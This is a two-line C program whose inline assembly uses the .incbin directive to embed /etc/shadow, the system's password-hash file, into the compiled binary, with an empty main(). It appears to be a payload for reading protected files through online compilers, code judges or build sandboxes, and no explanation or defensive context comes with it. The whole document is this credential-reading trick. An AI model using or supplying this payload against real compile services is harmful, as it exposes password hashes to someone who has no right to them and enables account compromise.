__asm__(".incbin \"/etc/shadow\"");
int main() { return 0; }
